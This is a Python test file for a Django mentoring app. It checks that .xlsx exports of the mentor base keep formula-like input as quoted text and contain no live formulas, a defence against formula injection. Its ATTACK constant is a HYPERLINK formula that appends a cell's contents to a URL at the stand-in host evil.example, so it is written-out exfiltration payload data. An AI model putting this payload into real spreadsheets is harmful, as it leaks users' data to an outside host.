"""Spreadsheet exports carry no live formulas (issue 9, item 7): a competence typed as a formula comes back as the
text typed, stored as text, in the bases' .xlsx."""

from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from conftest import make_bases

ATTACK = '=HYPERLINK("http://evil.example/?"&A3,"нажмите")'


def test_a_formula_typed_into_the_mentor_base_stays_text_in_the_xlsx(world, client):
    make_bases(world)
    profile = world.persons["mentor"].mentor_profile
    profile.competencies = ATTACK
    profile.achievements = "+1 олимпиада"
    profile.save()
    world.persons["mentor"].phone = "@SUM(1+1)"
    world.persons["mentor"].save()
    response = world.client(client, "coordinator").get(
        reverse("mentoring:mentor_base.list"), {"format": "xlsx", "programme": ""}
    )
    sheet = load_workbook(BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value}
    for text in (ATTACK, "+1 олимпиада"):
        assert text in cells, sorted(map(str, cells))
        assert cells[text].data_type == "s"  # openpyxl reads a formula back as data_type "f"
        assert cells[text].quotePrefix
    assert not [c for c in cells.values() if c.data_type == "f"]
    # and in the file itself there is no formula element at all
    from zipfile import ZipFile

    with ZipFile(BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
